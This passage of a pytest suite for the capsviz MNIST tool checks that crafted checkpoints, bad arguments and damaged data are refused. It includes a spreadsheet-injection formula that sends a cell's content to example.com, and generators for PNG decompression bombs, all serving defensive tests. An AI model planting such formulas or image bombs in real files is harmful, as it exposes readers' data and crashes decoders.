"""What capsviz promises against careless or hostile input, one attack per test, grouped by what it attacks.

Every attack uses a file the test crafts itself: tiny safetensors headers, sparse files,
synthetic MNIST.
"""

from __future__ import annotations

import base64
import csv
import errno
import gzip
import io
import json
import math
import os
import shutil
import stat
import struct
import subprocess
import sys
import zlib
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
import torch
from cli_runs import ENV, capsviz, tiny_train
from PIL import Image
from safetensors import safe_open
from safetensors.torch import save_file

from capsviz import cli, registry, tasks
from capsviz.analysis import trace_export
from capsviz.checkpoint import (
    CheckpointError,
    bounded_parameters,
    checkpoint_bytes,
    load_checkpoint,
    load_training_state,
    read_card,
    restore_optimizer,
    save_checkpoint,
)
from capsviz.cnn import CNNConfig
from capsviz.data import DataUnavailableError, Split, load_mnist
from capsviz.model import CapsNet, CapsNetConfig
from capsviz.preprocess import ink_map, open_image, to_mnist
from capsviz.train import NonFiniteLossError, RunFolderError, TrainConfig, csv_cell, train

from conftest import (
    NEEDS_APP,
    REPO,
    TINY_CAPSNET,
    TINY_CNN,
    routing_report,
    synthetic_digits,
    two_digit_models,
    write_idx,
)
from drawings import draw_digit


def rewrite(path: Path, change) -> None:
    """Edit a checkpoint's tensors in place with `change(tensors)`, keeping its metadata."""
    with safe_open(str(path), "pt") as handle:
        metadata = handle.metadata()
        tensors = {key: handle.get_tensor(key) for key in handle.keys()}
    change(tensors)
    save_file(tensors, str(path), metadata=metadata)


@pytest.fixture(scope="module")
def splits(synthetic_root):
    return load_mnist(synthetic_root, train=True), load_mnist(synthetic_root, train=False)


def tiny_config(**overrides) -> TrainConfig:
    values = dict(epochs=1, batch_size=32, lr=3e-3, device="cpu", eval_batch_size=20)
    return TrainConfig(**{**values, **overrides})


@pytest.fixture(scope="module")
def good_run(tmp_path_factory, splits):
    """A healthy one-epoch run of the tiny model: its last.safetensors holds weights + Adam state."""
    out = tmp_path_factory.mktemp("good_run")
    train(*splits, out, tiny_config(), model_config=TINY_CAPSNET)
    return out / "last.safetensors"


@pytest.fixture
def run_copy(good_run, tmp_path) -> Path:
    copy = tmp_path / "resume.safetensors"
    copy.write_bytes(good_run.read_bytes())
    return copy


# --- a NaN epoch must never replace the last good checkpoint -------------------------


def test_divergence_stops_training_and_keeps_the_last_good_checkpoint(good_run, splits, tmp_path):
    out = tmp_path / "run"
    out.mkdir()
    checkpoint = out / "last.safetensors"
    checkpoint.write_bytes(good_run.read_bytes())
    before = checkpoint.read_bytes()
    with pytest.raises(NonFiniteLossError, match="loss became .*last complete epoch"):
        train(*splits, out, tiny_config(epochs=3, lr=1e30), resume=checkpoint)  # Adam at lr 1e30 blows up
    assert checkpoint.read_bytes() == before
    load_checkpoint(checkpoint)  # still loads


def test_the_cli_exits_non_zero_on_divergence(good_run, synthetic_root, tmp_path):
    result = tiny_train(synthetic_root, tmp_path / "r", "--init", good_run, "--lr", "1e30", "--epochs", 2)
    assert result.returncode == 1, result.stderr
    assert "loss became" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "r" / "last.safetensors").exists()


def test_a_resume_file_with_nan_adam_state_is_refused(run_copy, splits, tmp_path):
    rewrite(run_copy, lambda t: t["optimizer/conv1.weight/exp_avg"].fill_(float("nan")))
    with pytest.raises(CheckpointError, match="optimizer/conv1.weight/exp_avg holds non-finite"):
        train(*splits, tmp_path / "r", tiny_config(epochs=2), resume=run_copy)
    assert not (tmp_path / "r" / "last.safetensors").exists()


@pytest.mark.parametrize("where", ["weights", "optimizer"])
def test_save_checkpoint_refuses_non_finite_values_under_any_caller(tmp_path, where):
    model = CapsNet(TINY_CAPSNET)
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.rand(2, 1, 28, 28)).lengths.sum().backward()
    optimizer.step()
    path = save_checkpoint(tmp_path / "a.safetensors", model, optimizer=optimizer)
    before = path.read_bytes()
    with torch.no_grad():
        if where == "weights":
            model.decoder.net[0].bias[0] = float("inf")
        else:
            optimizer.state[model.conv1.bias]["exp_avg_sq"][0] = float("nan")
    with pytest.raises(CheckpointError, match="non-finite"):
        save_checkpoint(path, model, optimizer=optimizer)
    assert path.read_bytes() == before


# --- a failed export leaves the destination untouched ---------------------------------


def test_failed_export_leaves_the_shipped_model_and_card_untouched(good_run, tmp_path):
    shipped = tmp_path / "pretrained" / "capsnet_mnist.safetensors"
    shipped.parent.mkdir()
    save_checkpoint(shipped, CapsNet(TINY_CAPSNET), {"test_accuracy": 0.9946})
    card = shipped.with_suffix(".json")
    card.write_text('{"test_accuracy": 0.9946}\n')
    before = shipped.read_bytes(), card.read_bytes()
    empty = tmp_path / "empty"
    empty.mkdir()
    ENV_EMPTY = {**ENV, "CAPSVIZ_DATA": str(empty)}
    result = subprocess.run([sys.executable, "-m", "capsviz", "export", str(good_run), "--out", str(shipped),
                             "--data-root", str(empty)], capture_output=True, text=True, env=ENV_EMPTY)  # fmt: skip
    assert result.returncode == 2 and "MNIST is not in" in result.stderr
    assert (shipped.read_bytes(), card.read_bytes()) == before
    assert sorted(p.name for p in shipped.parent.iterdir()) == ["capsnet_mnist.json", "capsnet_mnist.safetensors"]


def test_export_failing_during_measurement_leaves_no_trace(good_run, synthetic_root, tmp_path, monkeypatch):
    out = tmp_path / "model.safetensors"

    def broken(*args, **kwargs):
        raise CheckpointError("measurement failed")

    monkeypatch.setattr("capsviz.train.evaluate", broken)
    assert cli.main(["export", str(good_run), "--out", str(out), "--data-root", str(synthetic_root)]) == 2
    assert list(tmp_path.iterdir()) == []


def test_export_writes_weights_and_card_together(good_run, synthetic_root, tmp_path):
    out = tmp_path / "model.safetensors"
    assert cli.main(["export", str(good_run), "--out", str(out), "--data-root", str(synthetic_root)]) == 0
    card = json.loads(out.with_suffix(".json").read_text())
    assert load_checkpoint(out)[1] == card and card["test_images"] == 40
    assert sorted(p.name for p in tmp_path.iterdir()) == ["model.json", "model.safetensors"]


def test_readers_of_a_model_see_whole_exports_while_it_is_exported_again(good_run, synthetic_root, tmp_path):
    """What the app's reruns do while `export` replaces the model they read: every load is one whole export."""
    import threading

    out = tmp_path / "ship" / "m.safetensors"
    export = ["export", str(good_run), "--data-root", str(synthetic_root), "--out", str(out)]
    assert cli.main([*export, "--note", "export 0"]) == 0
    stop, notes, errors = threading.Event(), [], []

    def read() -> None:
        while not stop.is_set():
            try:
                notes.append(load_checkpoint(out)[1]["note"])
            except Exception as exc:  # noqa: BLE001 - any failure is what this test looks for
                errors.append(repr(exc))

    readers = [threading.Thread(target=read) for _ in range(3)]
    for reader in readers:
        reader.start()
    try:
        for k in range(1, 5):
            assert cli.main([*export, "--note", f"export {k}"]) == 0
    finally:
        stop.set()
        for reader in readers:
            reader.join()
    assert not errors, errors[:3]
    assert notes and set(notes) <= {f"export {k}" for k in range(5)}
    assert sorted(p.name for p in out.parent.iterdir()) == ["m.json", "m.safetensors"]  # nothing left staged


def test_export_continues_an_earlier_card(good_run, synthetic_root, tmp_path):
    """A run started from a shipped model (--init) is exported with the whole history counted in."""
    earlier = tmp_path / "earlier.json"
    earlier.write_text(json.dumps({"epochs": 2, "test_accuracy_per_epoch": [0.5, 0.75], "wall_seconds": 100.0}))
    out = tmp_path / "model.safetensors"
    assert cli.main(["export", str(good_run), "--out", str(out), "--data-root", str(synthetic_root),
                     "--continues", str(earlier)]) == 0  # fmt: skip
    card = json.loads(out.with_suffix(".json").read_text())
    run_card = load_checkpoint(good_run)[1]
    assert card["epochs"] == 3 and card["epochs_this_run"] == 1
    assert card["test_accuracy_per_epoch"] == [0.5, 0.75, round(run_card["history"][0]["test_accuracy"], 4)]
    assert card["wall_seconds"] == round(100.0 + run_card["wall_seconds"], 1)
    assert load_checkpoint(out)[1] == card


@pytest.mark.parametrize(
    "content",
    ["not json", json.dumps([1, 2]), json.dumps({"epochs": 3, "test_accuracy_per_epoch": [0.5], "wall_seconds": 1}),
     json.dumps({"epochs": 1, "test_accuracy_per_epoch": [7], "wall_seconds": 1})],
)  # fmt: skip
def test_export_refuses_a_malformed_earlier_card_before_writing(good_run, synthetic_root, tmp_path, content, capsys):
    earlier = tmp_path / "earlier.json"
    earlier.write_text(content)
    out = tmp_path / "out" / "model.safetensors"
    code = cli.main(["export", str(good_run), "--out", str(out), "--data-root", str(synthetic_root),
                     "--continues", str(earlier)])  # fmt: skip
    assert code == 2 and "--continues" in capsys.readouterr().err
    assert not out.parent.exists()


# --- a wrong-shaped optimizer tensor is refused, never a segfault -------------------------


def test_wrong_shaped_adam_state_is_refused_with_a_message_not_a_crash(run_copy, synthetic_root, tmp_path):
    rewrite(run_copy, lambda t: t.__setitem__("optimizer/conv1.weight/exp_avg", torch.zeros(3)))
    result = tiny_train(synthetic_root, tmp_path / "r", "--resume", run_copy, "--epochs", 2, "--limit", 96)
    assert result.returncode == 2, (result.returncode, result.stderr)
    assert "optimizer tensor optimizer/conv1.weight/exp_avg (3,) matches no parameter" in result.stderr


@pytest.mark.parametrize(
    "slot, value, message",
    [
        ("exp_avg", torch.zeros(1, 16, 9, 9), r"has shape \(1, 16, 9, 9\); its parameter is \(16, 1, 9, 9\)"),
        ("exp_avg", torch.zeros(3), r"is \(3,\) torch.float32; its parameter needs a float \(16, 1, 9, 9\)"),
        ("exp_avg", torch.zeros(16, 1, 9, 9, dtype=torch.int32), "needs a float"),
        ("exp_avg_sq", None, "Adam needs"),
        ("step", torch.tensor(-1.0), "negative"),
    ],
)
def test_restore_optimizer_checks_every_tensor_against_its_parameter(slot, value, message):
    model = CapsNet(TINY_CAPSNET)
    tensors = {
        f"optimizer/{name}/{key}": torch.zeros(()) if key == "step" else torch.zeros_like(p)
        for name, p in model.named_parameters()
        for key in ("step", "exp_avg", "exp_avg_sq")
    }
    key = f"optimizer/conv1.weight/{slot}"
    if value is None:
        del tensors[key]
    else:
        tensors[key] = value
    optimizer = torch.optim.Adam(model.parameters(), fused=True)
    with pytest.raises(CheckpointError, match=message):
        restore_optimizer(optimizer, model, tensors)


# --- a checkpoint cannot make capsviz allocate or read what it declares ---------------


def crafted(config: dict, tensors: dict[str, list[int]], *, card: dict | None = None, kind: str = "capsnet") -> bytes:
    """A safetensors header (F32 tensors of the given shapes) with capsviz metadata; no tensor data.

    The caller writes it and extends the file (sparse) to `size` or to what the header declares.
    """
    header, offset = {}, 0
    for name, shape in tensors.items():
        end = offset + 4 * math.prod(shape)
        header[name] = {"dtype": "F32", "shape": shape, "data_offsets": [offset, end]}
        offset = end
    meta = {
        "format": "capsviz-checkpoint",
        "version": "1",
        "kind": kind,
        "config": json.dumps(config),
        "card": json.dumps(card or {}),
    }
    body = json.dumps({"__metadata__": meta, **header}).encode()
    return struct.pack("<Q", len(body)) + body


def declared_size(prefix: bytes) -> int:
    header = json.loads(prefix[8:])
    return len(prefix) + max([v["data_offsets"][1] for k, v in header.items() if k != "__metadata__"] + [0])


def sparse_file(path: Path, prefix: bytes, size: int | None = None) -> Path:
    with open(path, "wb") as handle:
        handle.write(prefix)
        handle.truncate(size or declared_size(prefix))  # a hole: no disk, no memory
    return path


@pytest.fixture
def nothing_is_allocated(monkeypatch):
    """Fail the test if tensors are read or a model is built anywhere but on the meta device."""

    def refuse(*args, **kwargs):
        raise AssertionError("tensor data was read before the header was checked")

    class MetaOnly(CapsNet):
        def __init__(self, config):
            assert torch.empty(0).device.type == "meta", "a model was built before the header was checked"
            super().__init__(config)

    monkeypatch.setattr("capsviz.checkpoint.load_file", refuse)
    monkeypatch.setattr("capsviz.checkpoint.load_tensors", refuse)
    monkeypatch.setitem(registry.MODELS, "capsnet", (MetaOnly, CapsNetConfig))


TINY_SHAPES = {name: list(p.shape) for name, p in CapsNet(TINY_CAPSNET).named_parameters()}


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("conv_channels", 20_000, "conv_channels must be an integer in 1..1024"),
        ("conv_channels", 10**7, "conv_channels must be an integer in 1..1024"),
        ("num_classes", 10**4, "num_classes must be an integer in 2..100"),
        ("decoder_hidden", [50_000, 50_000], "decoder_hidden must be two integers in 1..4096"),
        ("primary_dim", -3, "primary_dim must be an integer"),
        ("kernel_size", 2.5, "kernel_size must be an integer"),
        ("routing_iters", True, "routing_iters must be an integer"),
    ],
)
def test_every_config_field_is_bounded_before_anything_is_built(tmp_path, nothing_is_allocated, field, value, message):
    config = {**TINY_CAPSNET.to_dict(), field: value}
    path = sparse_file(tmp_path / "huge.safetensors", crafted(config, TINY_SHAPES))
    with pytest.raises(CheckpointError, match=message):
        load_checkpoint(path)


@pytest.mark.parametrize(
    "field, value, message",
    [
        ("conv_channels", [10**7], "every width in conv_channels must be in 1..1024"),
        ("hidden", [1] * 50, "hidden must be at most 4 integer widths"),
        ("num_classes", 10**4, "num_classes must be an integer in 2..100"),
    ],
)
def test_a_cnn_config_is_bounded_too(tmp_path, field, value, message):
    config = {**CNNConfig().to_dict(), field: value}
    path = tmp_path / "huge-cnn.safetensors"
    path.write_bytes(crafted(config, {}, kind="cnn"))
    with pytest.raises(CheckpointError, match=message):
        load_checkpoint(path)


def test_bounded_fields_cannot_add_up_to_an_unbounded_model(tmp_path, nothing_is_allocated):
    config = {**TINY_CAPSNET.to_dict(), "primary_types": 128, "primary_dim": 32, "digit_dim": 64, "num_classes": 100}
    path = sparse_file(tmp_path / "big.safetensors", crafted(config, TINY_SHAPES))
    with pytest.raises(CheckpointError, match="parameters; capsviz allows"):
        load_checkpoint(path)


def test_header_shapes_are_checked_against_the_config_before_allocating(tmp_path, nothing_is_allocated):
    shapes = {**TINY_SHAPES, "digits.weight": [1152, 10, 16, 8 * 10**6]}  # 2.9 TB declared, sparse on disk
    path = sparse_file(tmp_path / "liar.safetensors", crafted(TINY_CAPSNET.to_dict(), shapes))
    with pytest.raises(CheckpointError, match=r"digits.weight has shape \(1152, 10, 16, 8000000\)"):
        load_checkpoint(path)
    data = crafted(TINY_CAPSNET.to_dict(), {**TINY_SHAPES, "conv1.weight": [16, 1, 9]})  # the same from uploaded bytes
    with pytest.raises(CheckpointError, match=r"conv1.weight has shape \(16, 1, 9\)"):
        load_checkpoint(data + bytes(declared_size(data) - len(data)))


def test_optimizer_tensors_in_the_header_must_match_a_parameter(tmp_path, nothing_is_allocated):
    shapes = {**TINY_SHAPES, "optimizer/conv1.weight/exp_avg": [10**9]}
    path = sparse_file(tmp_path / "adam.safetensors", crafted(TINY_CAPSNET.to_dict(), shapes))
    with pytest.raises(CheckpointError, match="matches no parameter"):
        load_checkpoint(path)


@pytest.mark.parametrize("size", [2 * 2**30, 12 * 2**30])
def test_a_huge_file_is_refused_from_its_header_alone(tmp_path, nothing_is_allocated, size):
    """A valid tiny checkpoint padded (sparsely) to 2 GB or 12 GB: only the header is read."""
    path = sparse_file(tmp_path / "padded.safetensors", crafted(TINY_CAPSNET.to_dict(), TINY_SHAPES), size)
    with pytest.raises(CheckpointError, match=f"is {size} bytes, but its header describes only"):
        load_checkpoint(path)


def test_a_file_shorter_than_its_header_declares_is_refused(tmp_path, nothing_is_allocated):
    prefix = crafted(TINY_CAPSNET.to_dict(), TINY_SHAPES)
    path = sparse_file(tmp_path / "short.safetensors", prefix, declared_size(prefix) - 1)
    with pytest.raises(CheckpointError, match="is truncated"):
        load_checkpoint(path)


def test_the_largest_checkpoint_capsviz_writes_still_loads(tmp_path):
    """The paper's model with Adam state (what a training run writes, 98.6 MB) is within every bound."""
    model = CapsNet(CapsNetConfig())
    optimizer = torch.optim.Adam(model.parameters())
    optimizer.step()  # no gradients: the state is created lazily, so fill it as a step would
    for p in model.parameters():
        optimizer.state[p].update(step=torch.tensor(1.0), exp_avg=torch.zeros_like(p), exp_avg_sq=torch.zeros_like(p))
    path = save_checkpoint(tmp_path / "last.safetensors", model, {"epochs": 0}, optimizer=optimizer)
    assert path.stat().st_size > 98_000_000
    assert load_training_state(path)[0].config == CapsNetConfig()


# --- bad arguments and a bad --out: one clear message, exit 2, before any work -------


@pytest.mark.parametrize(
    "args, message",
    [
        (["--batch-size", "0"], "--batch-size: 0 is out of range: it must be >= 1"),
        (["--batch-size", "-7"], "--batch-size: -7 is out of range"),
        (["--limit", "-5"], "--limit: -5 is out of range"),
        (["--limit", "0"], "--limit: 0 is out of range"),
        (["--epochs", "-1"], "--epochs: -1 is out of range"),
        (["--lr", "-1"], "--lr: -1 is out of range: it must be > 0"),
        (["--lr", "nan"], "--lr: nan is out of range"),
        (["--lr", "abc"], "--lr: 'abc' is not a number"),
        (["--threads", "-1"], "--threads: -1 is out of range"),
        (["--lr-decay", "-1"], "--lr-decay: -1 is out of range: it must be > 0 and <= 1"),
        (["--lr-decay", "nan"], "--lr-decay: nan is out of range"),
        (["--lr-min", "-0.1"], "--lr-min: -0.1 is out of range"),
        (["--lr-min", "0.5", "--lr", "0.1"], "--lr-min 0.5 is above --lr 0.1"),
        (["--seed", "-2"], "--seed: -2 is out of range"),
        (["--lr-schedule", "linear"], "invalid choice: 'linear'"),
        (["--resume", "a.safetensors", "--init", "b.safetensors"], "give one of them"),
    ],
)
def test_bad_training_arguments_exit_2_with_one_message_before_any_work(tmp_path, capsys, args, message):
    out = tmp_path / "run"
    with pytest.raises(SystemExit) as stopped:
        cli.main(["train", "--out", str(out), *args])
    assert stopped.value.code == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err
    assert not out.exists()  # nothing was started


def test_evaluate_limit_0_is_refused(capsys):
    with pytest.raises(SystemExit) as stopped:
        cli.main(["evaluate", "--limit", "0"])
    assert stopped.value.code == 2 and "--limit: 0 is out of range" in capsys.readouterr().err


@pytest.mark.parametrize("values", [dict(batch_size=0), dict(lr=float("nan")), dict(lr_decay=-1), dict(epochs=-1)])
def test_the_library_refuses_the_same_configs(values):
    with pytest.raises(ValueError, match="must be"):
        TrainConfig(**values)


def test_an_out_that_is_a_file_is_refused_before_training(tmp_path, capsys):
    existing = tmp_path / "notes.txt"
    existing.write_text("mine")
    for out in (existing, existing / "run"):
        with pytest.raises(SystemExit) as stopped:
            cli.main(["train", "--out", str(out), "--data-root", str(tmp_path / "never-read")])
        assert stopped.value.code == 2
        assert "pick" in capsys.readouterr().err
    assert existing.read_text() == "mine"


def test_a_read_only_out_is_refused_before_training(tmp_path, capsys):
    if os.geteuid() != 0:
        locked = tmp_path / "locked"
        locked.mkdir(mode=0o500)
    elif Path("/sys/kernel").is_dir():
        locked = Path("/sys/kernel")  # sysfs: read-only even for root, who ignores chmod
    else:
        pytest.skip("running as root without /sys: no folder is read-only")
    with pytest.raises(SystemExit) as stopped:
        cli.main(["train", "--out", str(locked), "--data-root", str(tmp_path / "never-read")])
    assert stopped.value.code == 2 and "cannot write the run folder" in capsys.readouterr().err


def test_the_library_checks_the_run_folder_before_loading_anything(tmp_path, splits, monkeypatch):
    existing = tmp_path / "file"
    existing.write_text("")
    monkeypatch.setattr("capsviz.train.registry", None)  # building a model would fail differently
    with pytest.raises(RunFolderError, match="existing file"):
        train(*splits, existing, tiny_config())


def test_a_model_larger_than_a_checkpoint_may_hold_is_refused_before_training(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(cli, "load_mnist", lambda *a, **k: pytest.fail("read the data first"))
    out = tmp_path / "runs" / "paper-cnn"
    with pytest.raises(SystemExit) as stopped:  # the paper's CNN on the 36x36 canvas: 56.9M parameters
        cli.main(["train", "--data", "multimnist", "--model", "cnn", "--preset", "paper", "--out", str(out)])
    err = capsys.readouterr().err
    assert stopped.value.code == 2 and "Traceback" not in err
    assert "--model cnn --preset paper --data multimnist describes a model of 56,941,330 parameters" in err
    assert "capsviz allows 50,000,000" in err and not (tmp_path / "runs").exists()
    bounded_parameters(tasks.for_task(CNNConfig.PRESETS["paper"], "mnist"), "the paper's CNN")  # 35.4M: allowed


# --- resume flags, malformed cards, left-over temporaries, atomic logs ------------------------


def test_resume_with_other_routing_iterations_is_refused(good_run, tmp_path, capsys):
    with pytest.raises(SystemExit) as stopped:
        cli.main(["train", "--resume", str(good_run), "--routing-iters", "5", "--out", str(tmp_path / "r")])
    assert stopped.value.code == 2
    assert "comes from the checkpoint" in capsys.readouterr().err


@pytest.mark.parametrize(
    "card_change, message",
    [
        (lambda card: card.update(epochs="three"), "'epochs' is 'three'"),
        (lambda card: card.update(epochs=-1), "'epochs' is -1"),
        (lambda card: card.update(history="lots"), "'history' is not a list of epoch records"),
        (lambda card: card.update(history=[1, 2]), "'history' is not a list of epoch records"),
        (lambda card: card["history"][0].pop("lr"), "'history' is not a list of epoch records"),
        (lambda card: card.update(epochs=4), "1 history rows for 4 epochs"),
    ],
)
def test_a_malformed_resumed_card_is_a_clear_error(run_copy, splits, tmp_path, card_change, message):
    with safe_open(str(run_copy), "pt") as handle:
        metadata = handle.metadata()
        tensors = {key: handle.get_tensor(key) for key in handle.keys()}
    card = json.loads(metadata["card"])
    card_change(card)
    save_file(tensors, str(run_copy), metadata={**metadata, "card": json.dumps(card)})
    with pytest.raises(CheckpointError, match=message):
        train(*splits, tmp_path / "r", tiny_config(epochs=5), resume=run_copy)


def test_temporaries_of_killed_writes_are_cleaned_up(tmp_path):
    target = tmp_path / "last.safetensors"
    stale, fresh = tmp_path / ".last.safetensors.abc123.tmp", tmp_path / ".last.safetensors.def456.tmp"
    stale.write_bytes(b"half a checkpoint")
    fresh.write_bytes(b"a write in progress")
    os.utime(stale, (0, 0))  # killed long ago
    save_checkpoint(target, CapsNet(TINY_CAPSNET))
    assert not stale.exists() and fresh.exists()


def test_logs_are_written_atomically(good_run, splits, tmp_path, monkeypatch):
    out = tmp_path / "run"
    out.mkdir()
    (out / "last.safetensors").write_bytes(good_run.read_bytes())
    train(*splits, out, tiny_config(epochs=2), resume=out / "last.safetensors")
    before = {name: (out / name).read_bytes() for name in ("log.json", "log.csv", "last.safetensors")}
    real_replace = os.replace

    def crash_on_logs(src, dst):
        if str(dst).endswith((".json", ".csv")):
            raise OSError("killed while writing the log")
        real_replace(src, dst)

    monkeypatch.setattr("capsviz.checkpoint.os.replace", crash_on_logs)
    with pytest.raises(OSError, match="killed"):
        train(*splits, out, tiny_config(epochs=3), resume=out / "last.safetensors")
    assert (out / "log.json").read_bytes() == before["log.json"]
    assert (out / "log.csv").read_bytes() == before["log.csv"]
    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]
    # the checkpoint is whole: the old epoch 2, or epoch 3 ahead of the logs (which a resume rewrites from it)
    checkpoint = (out / "last.safetensors").read_bytes()
    assert checkpoint == before["last.safetensors"] or load_checkpoint(out / "last.safetensors")[1]["epochs"] == 3


def test_a_checkpoint_name_a_spreadsheet_would_run_as_a_formula_is_written_to_log_csv_as_text(
    good_run, splits, tmp_path
):
    out = tmp_path / "run"
    out.mkdir()
    last = out / "last.safetensors"
    last.write_bytes(good_run.read_bytes())
    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
    with_card(last, lambda card: card["history"][0].update(checkpoint=formula))  # a resumed card's history row
    train(*splits, out, tiny_config(epochs=2), resume=last)
    rows = list(csv.DictReader(io.StringIO((out / "log.csv").read_text(), newline="")))
    assert [row["checkpoint"] for row in rows] == ["'" + formula, str(last)]
    assert json.loads((out / "log.json").read_text())[0]["checkpoint"] == formula  # JSON keeps the text as it is
    for cell in ("+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(cell) == "'" + cell
    assert csv_cell(-0.5) == -0.5 and csv_cell("runs/a/last.safetensors") == "runs/a/last.safetensors"


# --- image bombs are refused before decoding; an upload is decoded once ---------------------


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares width x height RGBA pixels and holds no pixel data: 57 bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)  # 8-bit RGBA
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def test_a_huge_png_is_refused_from_its_header(tmp_path):
    bomb = png_header_only(13_000, 13_000)
    with pytest.raises(ValueError, match="13000x13000 pixels; capsviz reads at most"):
        to_mnist(bomb)
    path = tmp_path / "bomb.png"
    path.write_bytes(bomb)
    assert cli.main(["predict", str(path), "--json"]) == 1  # every image failed


def _encoded(image: Image.Image, fmt: str) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt)
    return buffer.getvalue()


def _text_chunk_bomb(png: bytes) -> bytes:
    """`png` with a zTXt chunk that inflates to 20 MB of zeros (from about 20 KB), after its header."""
    data = b"k\0\0" + zlib.compress(b"\0" * 20_000_000, 9)
    chunk = struct.pack(">I", len(data)) + b"zTXt" + data + struct.pack(">I", zlib.crc32(b"zTXt" + data))
    return png[:33] + chunk + png[33:]


def _one_pixel_wide(height: int) -> bytes:
    """A whole, black greyscale PNG 1 pixel wide and `height` tall."""
    ihdr = struct.pack(">IIBBBBB", 1, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0\0" * height)  # each row: filter byte 0, one black pixel

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def test_odd_image_formats_read_as_their_digit_or_are_refused_plainly():
    seven = draw_digit(7).convert("L")
    expected = to_mnist(seven)
    grey = np.asarray(seven, dtype=np.float32) / 255
    same_digit = {
        "CMYK JPEG": _encoded(seven.convert("CMYK"), "JPEG"),
        "float TIFF": _encoded(Image.fromarray(grey), "TIFF"),
        "32-bit integer TIFF": _encoded(Image.fromarray((grey * 100).astype(np.int32)), "TIFF"),
    }
    for name, data in same_digit.items():
        x = to_mnist(data)
        assert x is not None and torch.allclose(x, expected, atol=0.15), name
    with pytest.raises(ValueError, match="too large"):  # Pillow's limit on text chunks, said as a ValueError
        to_mnist(_text_chunk_bomb(_encoded(seven, "PNG")))
    assert to_mnist(_one_pixel_wide(16_777_216)) is None  # 16.7 M pixels read, all black: blank, not a digit


def test_a_large_jpeg_is_decoded_at_a_reduced_scale(tmp_path):
    photo = draw_digit(7, size=280).convert("L").resize((4200, 4200))  # 17.6 M pixels, over the cap
    buffer = io.BytesIO()
    photo.save(buffer, format="JPEG")
    assert max(open_image(buffer.getvalue()).size) <= 2100  # decoded at 1/2 scale or less
    assert to_mnist(buffer.getvalue()) is not None


@NEEDS_APP
def test_an_upload_is_decoded_once_per_session(monkeypatch, synthetic_root, tmp_path):
    from streamlit.testing.v1 import AppTest

    from capsviz.ui import state
    from capsviz.ui.inputs import UPLOAD

    monkeypatch.setenv("CAPSVIZ_DATA", str(synthetic_root))
    monkeypatch.setenv("CAPSVIZ_RUNS", str(tmp_path / "runs"))
    calls = []

    def counting(image):
        calls.append(1)
        return ink_map(image)

    monkeypatch.setattr("capsviz.ui.inputs.ink_map", counting)
    app = AppTest.from_file(str(REPO / "app.py"), default_timeout=120).run()
    app.radio(key=state.INPUT_SOURCE).set_value(UPLOAD).run()
    buffer = io.BytesIO()
    draw_digit(4).save(buffer, format="PNG")
    app.file_uploader(key=state.UPLOAD).set_value(("four.png", buffer.getvalue(), "image/png")).run()
    app.slider(key=state.ROUTING_ITERS).set_value(2).run()
    app.slider(key=state.UPLOAD_THRESHOLD).set_value(20).run()  # the controls reread the kept ink, not the file
    app.run()
    assert not app.exception and app.metric and len(calls) == 1


# --- 16-bit greyscale is read at its own depth ------------------------------------------------


def test_a_16_bit_greyscale_png_is_not_blank():
    drawing = np.asarray(draw_digit(3).convert("L"), dtype=np.float64) / 255  # ink 1, background 0
    scan = (40_000 - drawing * 39_000).astype(np.uint16)  # background 40000, ink 1000
    buffer = io.BytesIO()
    Image.fromarray(scan).save(buffer, format="PNG")
    assert Image.open(io.BytesIO(buffer.getvalue())).mode.startswith("I")
    x = to_mnist(buffer.getvalue())
    assert x is not None
    assert torch.allclose(x, to_mnist(draw_digit(3)), atol=0.05)  # the same digit as the 8-bit drawing


# --- a damaged MNIST names the bad file or the read-only folder ------------------------------


@pytest.fixture
def mnist_copy(synthetic_root, tmp_path) -> Path:
    root = tmp_path / "mnist"
    shutil.copytree(synthetic_root, root)
    return root


def test_a_truncated_unpacked_file_is_named(mnist_copy):
    images = mnist_copy / "MNIST" / "raw" / "t10k-images-idx3-ubyte"
    images.write_bytes(images.read_bytes()[:1000])
    with pytest.raises(DataUnavailableError, match=rf"{images} is damaged \(truncated: 1000 bytes.*Fix: delete it"):
        load_mnist(mnist_copy, train=False)


def test_a_truncated_archive_is_named(mnist_copy):
    raw = mnist_copy / "MNIST" / "raw"
    images = raw / "t10k-images-idx3-ubyte"
    gzip_bytes = gzip.compress(images.read_bytes())
    (raw / "t10k-images-idx3-ubyte.gz").write_bytes(gzip_bytes[: len(gzip_bytes) // 2])
    images.unlink()  # only the (damaged) archive is left
    with pytest.raises(DataUnavailableError, match=r"t10k-images-idx3-ubyte.gz is damaged \(its checksum"):
        load_mnist(mnist_copy, train=False)


def test_a_read_only_folder_of_archives_is_named(mnist_copy, monkeypatch):
    raw = mnist_copy / "MNIST" / "raw"

    def read_only(*args, **kwargs):  # what unpacking into a read-only folder raises (root ignores chmod)
        raise PermissionError(errno.EACCES, "Permission denied", str(raw / "t10k-images-idx3-ubyte"))

    monkeypatch.setattr("torchvision.datasets.MNIST.__init__", read_only)
    with pytest.raises(DataUnavailableError, match=rf"{raw} is read-only.*gunzip -k"):
        load_mnist(mnist_copy, train=False)


@pytest.fixture
def sevens_root(tmp_path) -> Path:
    """MNIST archives whose digits are all 7s: no MultiMNIST pair of two classes can be drawn from them."""
    root = tmp_path / "sevens"
    for prefix, n in (("train", 64), ("t10k", 40)):
